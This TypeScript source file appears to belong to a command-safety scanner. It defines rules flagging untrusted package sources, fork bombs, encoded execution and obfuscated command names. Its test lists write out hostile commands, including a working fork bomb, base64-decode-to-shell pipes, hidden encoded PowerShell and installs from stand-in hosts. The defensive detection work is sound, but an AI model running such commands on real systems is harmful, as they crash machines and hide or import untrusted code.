import { commandRule, judged, surest, type CommandRule, type Context, type Judgement } from '../call-rule.js';
import type { Invocation } from '../shell/read-commands.js';
import { classifyUrl } from '../url/classify-url.js';
import { isOutside, operandsOf, valuesOf } from './words.js';
import { comesAfter } from '../text/order.js';

const usualIndexes =
  /^https:\/\/(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|rubygems\.org|download\.pytorch\.org|(?:[\w-]+\.)?pkg\.dev|npm\.pkg\.github\.com|pypi\.nvidia\.com|[\w.-]+\.jfrog\.io|[\w.-]+\.amazonaws\.com|pkgs\.dev\.azure\.com|pypi\.tuna\.tsinghua\.edu\.cn|mirrors\.aliyun\.com|registry\.npmmirror\.com|proxy\.golang\.org|index\.crates\.io)(?:\/|$)/;

/** How odd it is to install from an address. */
function oddness(text: string): number {
  const url = classifyUrl(text);
  if (!url) return 0;
  const { host, scheme } = url;
  if (scheme === 'http' && host && isOutside(host.kind)) return host.address === undefined ? 0.78 : 0.84;
  if (host?.address !== undefined && isOutside(host.kind)) return 0.82;
  if (
    /^https:\/\/(?:github\.com|gitlab\.com|codeload\.github\.com|raw\.githubusercontent\.com|objects\.githubusercontent\.com|bitbucket\.org)\//.test(
      text,
    )
  )
    return 0.35;
  return scheme === 'https' && host && isOutside(host.kind) ? 0.6 : 0.3;
}

function judgePackages(command: Invocation): Judgement | undefined {
  const { name, args } = command;
  const line = args.join(' ');
  const isPip =
    name === 'pip' ||
    (name === 'python' && /^-m pip\b/.test(line)) ||
    (name === 'uv' && /^(?:pip|add|tool)\b/.test(line));
  const does = 'installs a package from an odd place';
  const fromIndex = (...options: string[]): Judgement | undefined =>
    surest(
      ...valuesOf(command, ...options).map((index) =>
        judged(
          !usualIndexes.test(index) && oddness(index) > 0,
          index.startsWith('https:') ? oddness(index) : Math.max(0.76, oddness(index)),
          does,
        ),
      ),
    );
  const named = operandsOf(command).find((operand) => /^(?:git\+)?(?:https?|ssh|git|ftp):\/\//.test(operand));
  const direct = named === undefined ? undefined : { confidence: oddness(named.replace(/^git\+/, '')), does };
  if (isPip && /\b(?:install|add|download)\b/.test(line)) {
    return surest(
      fromIndex('-i', '--index-url', '--extra-index-url', '--find-links', '-f'),
      direct,
      judged(/--trusted-host/.test(line), 0.74, does),
    );
  }
  if (/^(?:npm|pnpm|yarn|bun|npx|bunx)$/.test(name)) {
    const isSet = /\bconfig set registry\b/.test(line);
    const set = isSet ? args.find((arg) => /^https?:/.test(arg)) : undefined;
    return surest(
      fromIndex('--registry'),
      judged(/^(?:npx|bunx)$/.test(name) || /\b(?:i|install|add|dlx|exec)\b/.test(line), 1, does)
        ? direct
        : undefined,
      judged(
        set !== undefined && !usualIndexes.test(set),
        set === undefined ? 0 : Math.max(0.72, oddness(set)),
        'has packages come from elsewhere',
      ),
      judged(/strict-ssl false/.test(line), 0.74, 'takes packages from whoever answers'),
    );
  }
  if (name === 'gem' || name === 'cargo' || name === 'go')
    return surest(fromIndex('--source', '-s', '--index', '--registry'), direct);
  if (/^(?:apt|apt-get|yum|dnf|apk|zypper|rpm|dpkg|pacman)$/.test(name)) {
    return surest(
      judged(
        /--allow-unauthenticated|--no-gpg-?check|--nogpgcheck|--allow-untrusted|--force-yes|--nosignature|AllowInsecure|--no-gpg-checks/i.test(
          line,
        ),
        0.76,
        'installs what nobody has signed',
      ),
      named === undefined || !/rpm|dnf|yum|apk/.test(name) ? undefined : direct,
    );
  }
  return undefined;
}

function judgeFork(command: Invocation, { invocations }: Context): Judgement | undefined {
  const { name, within, after, isBackground, args } = command;
  const isSelf = within !== undefined && within !== '' && name === within;
  const twice = isSelf && (after.some((one) => one.name === within) || isBackground);
  const loops =
    /^(?:sh|bash)$/.test(name) &&
    args.some((arg) => /^\$?0$|^\uFFFC$/.test(arg)) &&
    isBackground &&
    invocations.length <= 6;
  const yes = name === 'yes' && isBackground;
  return surest(
    judged(twice, 0.95, 'starts itself again and again until nothing else runs'),
    judged(
      loops && invocations.filter((one) => one.name === name).length > 1,
      0.74,
      'starts itself again and again',
    ),
    judged(yes && invocations.filter((one) => one.name === 'yes').length > 3, 0.72, 'keeps the machine busy'),
    judged(/^(?:stress|stress-ng)$/.test(name), 0.5, 'keeps the machine busy'),
    judged(name === 'kill' && args.includes('-1') && args.length > 1, 0.82, 'ends every program'),
    judged(/^(?:shutdown|reboot|halt|poweroff)$/.test(name), 0.58, 'stops the machine'),
  );
}

function judgeEncoded(command: Invocation): Judgement | undefined {
  const { name, via, before, args } = command;
  const isDecoded = via.includes('decoded');
  const runs = /^(?:sh|bash|zsh|dash|ksh|python|perl|ruby|node|php|eval|source|\.)$/.test(name);
  const decodes = [...before, ...command.inner].some((one) => isDecoder(one));
  const isFile = args.some((arg) => /^-[mc]$/.test(arg)) && !command.inner.some(isDecoder);
  return surest(
    judged(runs && decodes && !isFile, 0.87, 'runs what it decodes first'),
    judged(isDecoded && name !== '' && name !== 'echo', 0.8, 'is hidden in an encoding'),
    judgePowerShell(command),
  );
}

function isDecoder({ name, args }: Invocation): boolean {
  const line = args.join(' ');
  if (name === 'base64' || name === 'base32' || name === 'base58' || name === 'basenc')
    return /(?:^|\s)-\w*[dD]|--decode/.test(line);
  if (name === 'openssl') return comesAfter(line, /base64|enc/, /-d\b/);
  if (name === 'xxd') return /-\w*r/.test(line);
  return (
    name === 'uudecode' ||
    (name === 'printf' && /(?:\\x[0-9a-f]{2}){3}|(?:\\[0-7]{3}){3}/i.test(line)) ||
    (name === 'echo' && /(?:\\x[0-9a-f]{2}){3}|(?:\\0[0-7]{2,3}){3}/i.test(line)) ||
    (name === 'rev' && line === '')
  );
}

function judgePowerShell({ name, args }: Invocation): Judgement | undefined {
  if (name !== 'powershell' && name !== 'pwsh') return undefined;
  const line = args.join(' ');
  const isEncoded = args.some(
    (arg, index) =>
      /^[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc\w*)$/i.test(arg) &&
      (args[index + 1] ?? '').length > 8,
  );
  const isHidden = /[-/]w(?:in(?:dowstyle)?)?\s+(?:h|hidden|1)\b/i.test(line);
  const isLoose = /[-/]e(?:x|xec|xecutionpolicy|p)\w*\s+(?:bypass|unrestricted)/i.test(line);
  return surest(
    judged(isEncoded, 0.86, 'runs an encoded command'),
    judged(isHidden && isLoose, 0.76, 'runs a script without a window and without a check'),
    judged(isHidden || isLoose, 0.5, 'runs a script without a window or without a check'),
  );
}

function judgeDisguise({ disguise, name, via }: Invocation): Judgement | undefined {
  const isRisky =
    /^(?:cat|nc|curl|wget|bash|sh|zsh|python|perl|ruby|php|node|rm|dd|chmod|chown|head|tail|less|more|tac|base64|xxd|cp|mv|ssh|scp|socat|openssl|find|id|whoami|uname|env|printenv|nl|od|strings|grep|awk|sed|echo|ls|kill|sudo|eval|source|passwd|telnet|tar|ps|vi|vim|tee)$/.test(
      name,
    );
  if (disguise === undefined || !isRisky || via.length > 6) return undefined;
  return { confidence: disguise === 'glob' ? 0.84 : 0.78, does: `hides that it runs ${name}` };
}

/** Packages from odd places, fork bombs, hidden commands. */
export const otherRules: readonly CommandRule[] = [
  commandRule({
    id: 'odd-package-source',
    title: 'A package from an odd place',
    severity: 'high',
    confidence: 0.72,
    why: 'What is installed runs as part of the installation, and it comes from a place that nobody vouches for.',
    references: ['T1195', 'CWE-494', 'CWE-829'],
    finds: [
      'pip install --index-url http://pypi.example/simple requests',
      'npm install http://203.0.113.8/left-pad.tgz',
      'apt-get install --allow-unauthenticated tool',
      'pip install --trusted-host pypi.example lib',
    ],
    passes: [
      'npm install',
      'pip install -r requirements.txt',
      'pip install torch --index-url https://download.pytorch.org/whl/cpu',
      'sudo apt-get install -y curl',
      'pip install git+https://github.com/psf/requests.git',
    ],
    judge: judgePackages,
  }),
  commandRule({
    id: 'fork-bomb',
    title: 'A program that multiplies',
    severity: 'high',
    confidence: 0.72,
    why: 'The command starts itself over and over until the machine stands still.',
    references: ['T1499', 'CWE-400'],
    finds: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb'],
    passes: [
      'build() { npm run build; }; build',
      'for i in 1 2 3; do echo $i; done',
      'retry() { "$@" || retry "$@"; }; retry curl https://example.com',
    ],
    judge: judgeFork,
  }),
  commandRule({
    id: 'encoded-execution',
    title: 'A command hidden in an encoding',
    severity: 'critical',
    confidence: 0.76,
    why: 'The command decodes something and runs it, which hides from readers and logs what it is.',
    references: ['T1027', 'T1140', 'T1059'],
    finds: [
      'echo aWQ7IHdob2FtaQ== | base64 -d | sh',
      "printf '\\x69\\x64' | bash",
      'eval "$(echo 64690a | rev | xxd -r -p)"',
      'powershell -NoP -W Hidden -Enc SQBFAFgAIAAoACcAeAAnACkA',
    ],
    passes: [
      'echo aGVsbG8= | base64 -d',
      'base64 -d image.b64 > image.png',
      'echo "ls -la" | sh',
      'powershell -File build.ps1',
    ],
    judge: judgeEncoded,
  }),
  commandRule({
    id: 'obfuscated-command',
    title: 'A command whose name is hidden',
    severity: 'high',
    confidence: 0.76,
    why: 'The name of the program is spelled so that neither a reader nor a list of names would know it.',
    references: ['T1027', 'CWE-184'],
    finds: [
      "c''at notes.txt",
      '/???/c?t notes.txt',
      'wh\\oami',
      'a=cu;b=rl;$a$b https://x.example',
      'cat${IFS}notes.txt',
      "$'\\x63\\x61\\x74' notes.txt",
    ],
    passes: ['"cat" notes.txt', '\\ls -la', 'cat notes.txt', '$EDITOR notes.txt', 'ls *.txt'],
    judge: judgeDisguise,
  }),
];
